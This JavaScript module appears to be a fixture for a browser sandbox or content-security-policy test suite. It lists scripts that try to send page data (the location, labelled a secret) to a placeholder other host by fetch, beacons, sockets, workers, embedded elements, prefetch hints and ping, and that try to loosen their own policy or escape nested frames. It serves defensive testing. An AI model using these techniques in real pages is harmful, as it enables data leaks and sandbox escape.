import { tries } from './hostile-script.js';

/** Tries elements that load something; whether they do is seen at the server. */
const load = `
  const load = (name, more) => {
    const element = Object.assign(document.createElement(name), more);
    document.documentElement.append(element);
  };
`;

/**
 * Scripts that call hosts other than the one they came from. What got through is seen at the other server.
 * @type {import('./hostile-script.js').HostileScript[]}
 */
export const callingOut = [
  tries(
    'calls another host by fetch and its kin',
    'both',
    ({ other }) => `
      const secret = encodeURIComponent(self.location);
      attempt('fetch', () => { fetch('${other}/fetch?' + secret, { mode: 'no-cors' }).catch(() => {}); });
      attempt('later', () => { fetchLater?.('${other}/later', { activateAfter: 0 }); });
      attempt('request', () => { const call = new XMLHttpRequest(); call.open('GET', '${other}/xhr'); call.send(); });
      attempt('waiting', () => { const call = new XMLHttpRequest(); call.open('GET', '${other}/sync', false); call.send(); return 1; });
      attempt('beacon', () => { navigator.sendBeacon?.('${other}/beacon', secret); });
      attempt('socket', () => { new WebSocket('${other}/socket'.replace('http', 'ws')); });
      attempt('events', () => { new EventSource('${other}/events'); });
      attempt('transport', () => { new WebTransport('${other}/transport'.replace('http:', 'https:')).ready.catch(() => {}); });
      pause(150)`,
  ),
  tries(
    'loads scripts of another host',
    'both',
    ({ other }) => `
      attempt('import', () => { import('${other}/module').catch(() => {}); });
      attempt('scripts', () => (self.importScripts ? (importScripts('${other}/script') ?? 1) : null));
      attempt('data', () => (self.importScripts ? (importScripts('data:text/javascript,1') ?? 1) : null));
      if (self.document) {
        const script = Object.assign(document.createElement('script'), { src: '${other}/element' });
        document.documentElement.append(script);
        const module = Object.assign(document.createElement('script'), { src: '${other}/module', type: 'module' });
        document.documentElement.append(module);
      }
      attempt('worker', () => { new Worker('${other}/worker').onerror = () => {}; });
      pause(150)`,
  ),
  tries(
    'loads pictures, styles, sounds and documents of another host',
    'element',
    ({ other }) => `${load}
      new Image().src = '${other}/image';
      load('img', { srcset: '${other}/srcset 1x' });
      load('video', { src: '${other}/video', poster: '${other}/poster' });
      load('audio', { src: '${other}/audio' });
      load('link', { rel: 'stylesheet', href: '${other}/style' });
      load('style', { textContent: '@import url(${other}/import); @font-face { font-family: f; src: url(${other}/font) } * { font-family: f; background: url(${other}/background) }' });
      load('iframe', { src: '${other}/frame' });
      load('object', { data: '${other}/object' });
      load('embed', { src: '${other}/embed' });
      load('input', { type: 'image', src: '${other}/input' });
      load('link', { rel: 'icon', href: '${other}/icon' });
      load('link', { rel: 'manifest', href: '${other}/manifest' });
      pause(150)`,
  ),
  tries(
    'fetches ahead from another host',
    'element',
    ({ other }) => `${load}
      for (const rel of ['prefetch', 'modulepreload', 'prerender']) load('link', { rel, href: '${other}/' + rel });
      for (const as of ['script', 'fetch', 'image', 'style', 'font', 'document'])
        load('link', { rel: 'preload', as, href: '${other}/preload-' + as });
      load('script', { type: 'speculationrules', textContent: JSON.stringify({
        prefetch: [{ source: 'list', urls: ['${other}/speculation'] }],
        prerender: [{ source: 'list', urls: ['${other}/prerender-rule'] }],
      }) });
      pause(150)`,
  ),
  tries(
    'pings another host',
    'element',
    ({ other }) => `${load}
      const link = Object.assign(document.createElement('a'), { href: '#here', ping: '${other}/ping' });
      document.documentElement.append(link);
      link.click();
      const report = document.createElement('meta');
      report.httpEquiv = 'Content-Security-Policy';
      report.content = "img-src 'none'; report-uri ${other}/report";
      document.head.append(report);
      new Image().src = '${other}/reported';
      pause(150)`,
  ),
  tries(
    'connects to peers',
    'both',
    () => `
      attempt('peer', () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] }));
      attempt('old name', () => new webkitRTCPeerConnection({}))`,
  ),
  tries(
    'loosens its own policy',
    'element',
    ({ other }) => `
      for (const meta of document.querySelectorAll('meta')) meta.remove();
      const meta = document.createElement('meta');
      meta.httpEquiv = 'Content-Security-Policy';
      meta.content = 'default-src *; script-src * blob: data:; connect-src *; img-src *';
      document.head.append(meta);
      fetch('${other}/loosened').catch(() => {});
      new Image().src = '${other}/loosened';
      pause(150)`,
  ),
  tries(
    'nests frames to get out of its own',
    'element',
    ({ other }) => `
      const nested = document.createElement('iframe');
      nested.srcdoc = '<img src="${other}/nested"><script src="${other}/nested-script"></script>';
      document.documentElement.append(nested);
      const plain = document.createElement('iframe');
      document.documentElement.append(plain);
      attempt('inside', () => plain.contentWindow.document.body);
      attempt('unsandboxed', () => { plain.sandbox = 'allow-scripts allow-same-origin'; plain.src = 'about:blank'; return plain.contentDocument; });
      pause(150)`,
  ),
];
